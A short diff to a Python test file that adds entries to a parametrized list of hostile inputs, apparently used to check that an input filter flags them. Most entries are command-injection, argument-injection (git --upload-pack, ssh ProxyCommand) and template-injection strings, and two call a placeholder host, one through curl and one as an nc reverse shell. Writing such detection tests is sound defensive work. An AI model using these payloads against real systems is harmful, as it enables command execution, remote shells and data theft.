@@ -100,6 +100,9 @@ def test_hidden_three_deep_and_no_deeper(flagged: Flagged) -> None:
         "report.pdf && whoami",
         "x$(curl http://192.0.2.7/`id`)",
         "a|nc 192.0.2.7 99 -e sh",
+        "--upload-pack=touch /tmp/x",
+        "-oProxyCommand=touch /tmp/x",
+        "user|powershell -enc ZQBjAGgAbwA=",
         "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     ],
 )
